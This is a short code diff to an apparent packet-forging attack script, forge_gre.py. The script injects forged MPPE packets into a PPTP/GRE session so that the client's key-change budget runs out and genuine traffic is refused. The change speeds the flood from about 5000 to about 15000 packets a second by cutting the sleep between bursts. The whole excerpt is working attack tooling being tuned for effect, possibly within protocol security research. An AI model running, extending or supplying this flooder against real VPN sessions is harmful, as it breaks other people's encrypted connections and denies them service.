@@ -20,8 +20,8 @@ first frame own the client's receive window.
 
     forge_gre.py SERVER CLIENT --flood SECONDS
 
-For SECONDS, follows the server's packets on the wire and sends about 5000
-forged MPPE packets a second, each with the next sequence number and the
+For SECONDS, follows the server's packets on the wire and sends forged MPPE
+packets as fast as it can (about 15000 a second here), each with the next sequence number and the
 coherency count one past the server's next (one key change ahead): the flood
 that emptied the receiver's key-change budget, so that the genuine packet after
 a natural loss was refused."""
@@ -160,7 +160,7 @@ def flood(sock, server, client, seconds):
         for _ in range(50):
             sock.send(packet(dst_mac, src_mac, server, client, call_id, latest["seq"] + 1, b"\xff\x03\x00\xfd" + body))
             sent += 1
-        time.sleep(0.01)
+        time.sleep(0.002)
     t.join()
     print(json.dumps({"call_id": call_id, "sent": sent, "seconds": seconds}), flush=True)
 
